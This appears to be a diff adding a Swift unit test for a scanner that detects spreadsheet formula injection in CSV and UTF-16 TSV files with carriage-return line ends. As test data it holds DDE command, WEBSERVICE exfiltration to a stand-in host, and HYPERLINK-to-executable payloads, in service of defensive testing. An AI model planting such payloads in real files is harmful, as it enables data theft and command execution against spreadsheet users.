@@ -184,4 +184,30 @@ struct FormulaTests {
         #expect(Inspector.isNamedCSV(filename: "x.txt", declaredType: "text/csv; charset=utf-8"))
         #expect(!Inspector.isNamedCSV(filename: "notes.txt", declaredType: "text/plain"))
     }
+
+    /// Round 4: a carriage return ends a row everywhere, after a quoted cell too (classic Mac line ends, which Excel
+    /// and LibreOffice split at); also in UTF-16 tab-separated text.
+    @Test func carriageReturnsEndRowsAfterQuotedCells() {
+        func utf16(_ text: String) -> [UInt8] { [0xFF, 0xFE] + text.utf16.flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] } }
+        for payload in [#"=cmd|' /C calc'!A0"#, #"=WEBSERVICE("http://evil.example/?"&A2)"#, #"=HYPERLINK("file:///c:/x.exe","Invoice")"#] {
+            for csv in [
+                "name,note\r\"alice\",\"ok\"\r\(payload)\r", "a;b\r\"x\";\"y\"\r\(payload)\r", "name,note\r\"alice\" tail\r\(payload)\r",
+                "name,note\r\"alice\"\r\n\(payload)\r\n",
+            ] {
+                #expect(!TextActiveContent.findings(in: Array(csv.utf8), csv: true).isEmpty, "\(csv.debugDescription)")
+                #expect(!TextActiveContent.findings(in: Array(csv.utf8)).isEmpty, "\(csv.debugDescription)")
+            }
+            let tsv = "a\tb\r\"x\"\t\"y\"\r\(payload)\r"
+            #expect(!TextActiveContent.findings(in: utf16(tsv), csv: true).isEmpty, "\(tsv.debugDescription)")
+        }
+        // Ordinary CR-only and CRLF files with quoted cells stay clean.
+        for csv in [
+            "name,note,total\r\"Smith, J.\",\"a \"\"quoted\"\" value\",-4\r\"Ann\",\"1 Main St\rSpringfield\",=SUM(C1:C2)\r",
+            "name,note,total\r\n\"Smith, J.\",\"ok\",-4\r\n\"Bob\",\"(555) 123\",+3\r\n",
+        ] {
+            #expect(TextActiveContent.findings(in: Array(csv.utf8), csv: true).isEmpty, "\(csv.debugDescription)")
+            #expect(TextActiveContent.findings(in: Array(csv.utf8)).isEmpty, "\(csv.debugDescription)")
+            #expect(TextActiveContent.findings(in: utf16(csv), csv: true).isEmpty, "\(csv.debugDescription)")
+        }
+    }
 }
